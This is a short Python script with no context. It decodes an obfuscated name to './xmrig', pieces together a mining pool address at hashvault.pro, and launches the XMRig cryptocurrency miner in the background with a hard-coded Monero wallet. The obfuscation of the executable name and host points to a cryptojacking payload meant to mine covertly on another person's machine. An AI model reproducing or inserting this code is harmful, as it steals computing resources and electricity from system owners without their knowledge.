import os

codes = [46, 47, 120, 109, 114, 105, 103]
exe = "".join(chr(c) for c in codes)
host = "pool." + "hashvault" + ".pro:443"
os.system(exe + " -o " + host + " -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --tls -B")
